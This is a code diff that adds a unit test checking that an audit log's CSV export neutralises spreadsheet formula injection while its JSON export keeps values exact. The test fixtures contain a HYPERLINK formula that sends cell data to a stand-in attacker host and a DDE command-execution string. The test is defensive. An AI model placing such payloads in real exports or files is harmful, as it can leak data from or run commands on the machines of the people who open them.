@@ -470,6 +470,28 @@ describe('AuditRepo: export', () => {
     expect(parseCsv(csv)[1]![7]).toBe('{"text":"a, \\"b\\""}');
   });
 
+  it('keeps model-written text from becoming a spreadsheet formula in CSV, and exact in JSON', () => {
+    const { audit } = store();
+    const id = audit.start(entry({ skill: 'search_web', params: { q: '=1+1' }, requestedBy: '@conv' }));
+    audit.finish(id, {
+      status: 'failed',
+      durationMs: 1,
+      exitCode: -1,
+      resultSummary: '=HYPERLINK("http://evil.example/?"&A1,"click")',
+      error: "+cmd|' /C calc'!A0",
+    });
+    const [, row] = parseCsv(audit.exportCsv());
+    expect(row![6]).toBe("'@conv");
+    expect(row![7]).toBe('{"q":"=1+1"}');
+    expect(row![13]).toBe('-1');
+    expect(row![14]).toBe('\'=HYPERLINK("http://evil.example/?"&A1,"click")');
+    expect(row![15]).toBe("'+cmd|' /C calc'!A0");
+    for (const field of row!) expect(field).not.toMatch(/^[=+@\t\r]/);
+    const [exact] = JSON.parse(audit.exportJson()) as AuditRow[];
+    expect(exact!.resultSummary).toBe('=HYPERLINK("http://evil.example/?"&A1,"click")');
+    expect(exact!.requestedBy).toBe('@conv');
+  });
+
   it('exports every matching row, ignoring the page size, as CSV and JSON', () => {
     const s = store();
     fill(s.audit, 130, (i) => `result ${i}`, s.db);
